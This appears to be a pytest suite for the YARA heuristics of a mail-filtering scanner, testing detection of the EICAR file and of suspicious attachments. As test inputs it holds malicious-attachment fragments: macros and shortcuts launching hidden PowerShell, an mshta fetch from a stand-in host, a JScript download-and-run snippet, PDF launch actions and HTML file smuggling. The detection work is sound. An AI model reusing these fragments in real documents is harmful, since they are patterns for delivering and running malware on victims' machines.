"""YARA rules in this process: the rules that come along, own ones, and one scanner for all workers."""

from __future__ import annotations

import mmap
import os
import re
import tempfile
from pathlib import Path

import pytest

from amavispy.deadline import Deadline
from amavispy.inspection import yara
from amavispy.inspection.scanning import Scanning
from amavispy.inspection.yara import YaraScanner
from amavispy.mail.envelope import Envelope
from amavispy.mail.message import Content
from amavispy.mail.verdict import OnFailure, Part, VirusScan
from amavispy.policy.settings import ScannerSpec

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
MAIL = b"Received: x\r\n\r\nhello\r\n"
BUILTIN = ScannerSpec("yara", "yara")
RULES = Path(yara.__file__).with_name("yara_rules")


def scan(
    octets: bytes | Content, *parts: bytes | memoryview, spec: ScannerSpec = BUILTIN, scanning: Scanning | None = None
) -> VirusScan:
    content = octets if isinstance(octets, Content) else Content(octets)
    leaves = tuple(Part(n, str(n), None, octets=part) for n, part in enumerate(parts, 1))
    given = (content, leaves, Envelope("", ()), (spec,), (), Deadline.after(10))
    return (scanning or Scanning([spec])).scan(*given)[0][0]


def own_rules(tmp_path: Path, text: str) -> ScannerSpec:
    (tmp_path / "own.yar").write_text(text)
    return ScannerSpec("own", "yara", rules=(str(tmp_path / "own.yar"),))


def test_the_test_file_is_found_in_a_part() -> None:
    for part in (EICAR, memoryview(EICAR), memoryview(b"xx" + EICAR + b"\r\n  ")[2:]):
        assert scan(MAIL, b"text", part).names == ("EICAR-Test-File",)


def test_a_text_that_quotes_the_test_file_is_none() -> None:
    assert scan(MAIL, b"They say: " + EICAR) == VirusScan("yara")
    assert scan(MAIL, EICAR + b" and so on, at length" * 20) == VirusScan("yara")


HEURISTICS = ScannerSpec("yara", "yara", rules=("builtin", "heuristics"))
OLE = bytes.fromhex("d0cf11e0a1b11ae1") + b"\0" * 504 + "_VBA_PROJECT".encode("utf-16-le")
LNK = bytes.fromhex("4c0000000114020000000000c000000000000046")
ONENOTE = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + b"\0" * 1000
EMBEDDED = bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac") + b"\x09" + b"\0" * 19
PAGE = b"<html><script>const d=Uint8Array.from(atob('%b'),c=>c.charCodeAt(0)); const b=new Blob([d]);"
SAVES = b"a.href=URL.createObjectURL(b); a.download='invoice.iso'; a.click();</script></html>"
DOWNLOADER = (
    b'var s = new ActiveXObject("WScript.Shell"); var x = new ActiveXObject("MSXML2.XMLHTTP"); x.open("GET", u); '
    b'x.send(); var f = new ActiveXObject("ADODB.Stream"); f.Write(x.responseBody); f.SaveToFile(p); s.Run(p);'
)
RTF = b"{\\rt {\\object\\objupdate {\\*\\objdata "

STRANGE = [
    (OLE + b"\0\x0cDocument_Open\0" + b'Shell "powershell -w hidden"', "Heuristics.Macro.RunsProgram"),
    (OLE + b"\0\x08AutoOpen\0\0URLDownloadToFileA\0", "Heuristics.Macro.RunsProgram"),
    (b"%PDF-1.7 << /S /Launch /Win << /F (cmd.exe) >> >>", "Heuristics.PDF.LaunchesProgram"),
    (b"%PDF-1.7 /OpenAction << /S /Launch /Win << /F (x.exe) >> >>", "Heuristics.PDF.LaunchesProgram"),
    (b"junk\n%PDF-1.7 << /S /Launch /F (C:\\\\Windows\\\\mshta.exe) >>", "Heuristics.PDF.LaunchesProgram"),
    (
        b"%PDF-1.4 /OpenAction << /S /JavaScript /JS (this.exportDataObject({cName: 'x', nLaunch: 2});) >>",
        "Heuristics.PDF.OpensAttachment",
    ),
    (b"%PDF-1.4 << /S /J#61vaScript /JS (x) >>", "Heuristics.PDF.HidesNames"),
    (b"%PDF-1.4 /#4fpenAction 5 0 R", "Heuristics.PDF.HidesNames"),
    (LNK + "powershell.exe -windowstyle hidden".encode("utf-16-le"), "Heuristics.LNK.StartsInterpreter"),
    (LNK + "cmd.exe\0/c start /b curl -o x".encode("utf-16-le"), "Heuristics.LNK.StartsInterpreter"),
    (LNK + "mshta https://example.org/a".encode("utf-16-le"), "Heuristics.LNK.StartsInterpreter"),
    (b'<html><HTA:APPLICATION id="x"><script>new ActiveXObject("WScript.Shell")', "Heuristics.HTA.RunsProgram"),
    (DOWNLOADER, "Heuristics.Script.DownloadsAndRuns"),
    (PAGE % b"TVqQAAMAAAAEAAAA" + SAVES, "Heuristics.HTML.SmugglesFile"),
    (PAGE % (b"abcd" * 1200) + SAVES, "Heuristics.HTML.SmugglesFile"),
    (PAGE % b"UEsDBBQAAAAIAA" + b"navigator.msSaveOrOpenBlob(b, 'x.zip');</script>", "Heuristics.HTML.SmugglesFile"),
    (ONENOTE + EMBEDDED + b"MZ\x90\0", "Heuristics.OneNote.CarriesProgram"),
    (ONENOTE + EMBEDDED + b"@echo off\r\nstart", "Heuristics.OneNote.CarriesProgram"),
    (ONENOTE + EMBEDDED + LNK, "Heuristics.OneNote.CarriesProgram"),
    (RTF + b"4571756174696F6E2E33}}}", "Heuristics.RTF.EquationObject"),
    (RTF + b"0105000002ce020000000000C000000000000046}}}", "Heuristics.RTF.EquationObject"),
    (RTF + b"E0C9EA79F9BACE118C8200AA004BA90B}}}", "Heuristics.RTF.FetchesObject"),
]

ORDINARY = [
    OLE + b"\0Workbook_Open\0Range.Sort\0MsgBox",  # a macro that starts by itself and sorts a table
    OLE + b'\0Button1_Click\0Shell "powershell"',  # one that waits for a click
    b"%PDF-1.7 << /S /URI >> (cmd.exe)",
    b"%PDF-1.7 << /S /Launch /F (handbook.pdf) >>",  # a link to another document, on a click
    b"%PDF-1.4 /OpenAction << /S /JavaScript /JS (this.getField('sum').value = 0;) >>",  # a form that sums up
    b"%PDF-1.4 /OpenAction [3 0 R /Fit] /BaseFont /Arial#20Bold /Launchpad /JavaScript",
    b"how to write << /S /Launch /F (cmd.exe) >> in a PDF",
    LNK + "notepad.exe C:\\notes.txt".encode("utf-16-le"),
    LNK + "cmd.exe /k C:\\tools\\env.bat".encode("utf-16-le"),
    b'<html><script>var x = new ActiveXObject("Microsoft.XMLHTTP"); x.open("GET", "/a");</script>',
    b"WScript.Shell and MSXML2.XMLHTTP are what CreateObject( is used for most, the article says.",
    b"<html><script>b=new Blob([csv]);a.href=URL.createObjectURL(b);a.download='t.csv';a.click()</script>",
    b"<html><img src='data:image/png;base64," + b"abcd" * 5000 + b"'><script>x=atob(y)</script></html>",
    ONENOTE + EMBEDDED + b"%PDF-1.7",
    ONENOTE + b"a note about powershell and <script> tags",
    b"{\\rtf1 an equation 4571756174696F6E2E33}",
    b"{\\rtf1 {\\object\\objemb {\\*\\objdata 4571756174696F6E2E33}}}",  # an old document with a formula
    b"{\\rtf1 \\ansi Kind regards}",
]


@pytest.mark.parametrize(("part", "name"), STRANGE, ids=range(len(STRANGE)))
def test_what_honest_mail_hardly_ever_contains(part: bytes, name: str) -> None:
    found = scan(MAIL, part, spec=HEURISTICS)
    assert found.names == (name,)
    assert found.parts == (1,)


@pytest.mark.parametrize("part", [part for part, _ in STRANGE], ids=range(len(STRANGE)))
def test_heuristics_are_asked_for_by_name(part: bytes) -> None:
    assert scan(MAIL, part) == VirusScan("yara")


@pytest.mark.parametrize("part", ORDINARY, ids=range(len(ORDINARY)))
def test_what_only_looks_like_it(part: bytes) -> None:
    assert scan(MAIL, part, spec=HEURISTICS) == VirusScan("yara")


def test_ordinary_pages_of_this_machine_are_no_finding() -> None:
    """Python's own documentation strings, HTML and scripts; docs/scanners.md tells of a larger count."""
    files = [path for path in Path(os.__file__).parent.rglob("*") if path.suffix in (".py", ".txt", ".html", ".xbm")]
    scanner = YaraScanner(HEURISTICS)
    assert [path for path in files[:600] if scanner.matches(path.read_bytes(), None)] == []


def test_every_heuristic_says_so_in_its_name_and_is_documented() -> None:
    rules = (RULES / "heuristics.yar").read_text()
    names = re.findall(r'name = "([^"]+)"', rules)
    assert len(names) == len(re.findall(r"^rule ", rules, re.M))
    told = (RULES.parents[2] / "docs" / "scanners.md").read_text()
    assert [name for name in names if not name.startswith("Heuristics.") or f"`{name}`" not in told] == []


def test_own_rules_are_named_by_meta_or_identifier_and_once(tmp_path: Path) -> None:
    spec = own_rules(
        tmp_path,
        'rule a { meta: name = "Own.Name" strings: $ = "hello" condition: any of them }'
        ' rule b { strings: $ = "hello" condition: any of them }',
    )
    assert scan(MAIL, b"hello", spec=spec).names == ("Own.Name", "b")


def test_builtin_rules_and_a_directory_of_own_ones_go_together(tmp_path: Path) -> None:
    (tmp_path / "one.yar").write_text('rule eicar_test_file { strings: $ = "hello" condition: any of them }')
    (tmp_path / "two.yara").write_text('include "three.inc" rule two { condition: false }')
    (tmp_path / "three.inc").write_text("rule three { condition: filesize == 5 }")
    spec = ScannerSpec("own", "yara", rules=("builtin", str(tmp_path)))
    assert set(scan(MAIL, EICAR, b"hello", spec=spec).names) == {"EICAR-Test-File", "eicar_test_file", "three"}


def test_a_large_mail_is_scanned_from_its_spool_file_where_it_lies(tmp_path: Path) -> None:
    spec = own_rules(tmp_path, 'rule a { strings: $ = "needle" condition: any of them }')
    with tempfile.TemporaryFile() as file:
        file.write(MAIL + b"x" * 1_000_000 + b"needle")
        file.flush()
        with mmap.mmap(file.fileno(), 0, prot=mmap.PROT_READ) as octets:
            assert scan(Content(octets, file.fileno()), spec=spec).is_infected
            assert scan(Content(octets), spec=spec).is_infected
            octets.close()  # fails while somebody holds on to it


def test_a_descriptor_that_cannot_be_read_is_a_failure(tmp_path: Path) -> None:
    with tempfile.TemporaryFile() as file, mmap.mmap(-1, 10) as octets:
        number = file.fileno()
        file.close()
        found = scan(Content(octets, number))
    assert found.error
    assert found.on_failure is OnFailure.TEMPFAIL


def test_without_time_left_nothing_is_called_clean() -> None:
    given = (Content(MAIL), (), Envelope("", ()), (BUILTIN,), (), Deadline.after(-1))
    assert Scanning([BUILTIN]).scan(*given)[0][0].error == "out of time"


@pytest.mark.parametrize(
    ("text", "message"),
    [("rule a { condition: foo }", "unknown identifier `foo`"), ("rule", "syntax error")],
)
def test_rules_that_do_not_compile_are_shown(tmp_path: Path, text: str, message: str) -> None:
    with pytest.raises(ValueError, match=f"scanner own: YARA rules .*own.yar: (.|\n)*{message}"):
        Scanning([own_rules(tmp_path, text)])


def test_rules_that_are_not_there_are_named(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="No such file"):
        Scanning([ScannerSpec("own", "yara", rules=(str(tmp_path / "gone.yar"),))])


def test_the_scanner_made_before_the_fork_serves_every_worker() -> None:
    """Used in the parent, then in three children at once, without a thread in any of them."""
    scanning = Scanning([BUILTIN])
    assert scan(MAIL, EICAR, scanning=scanning).is_infected
    children = [os.fork() for _ in range(3) if os.getpid() == PARENT]
    if os.getpid() != PARENT:
        found = [scan(MAIL, EICAR, scanning=scanning).is_infected for _ in range(3)]
        clean = scan(MAIL, b"x" * 100_000, scanning=scanning) == VirusScan("yara")
        os._exit(0 if all(found) and clean and len(os.listdir("/proc/self/task")) == 1 else 1)
    assert [os.waitpid(child, 0)[1] for child in children] == [0, 0, 0]
    assert scan(MAIL, EICAR, scanning=scanning).is_infected


PARENT = os.getpid()
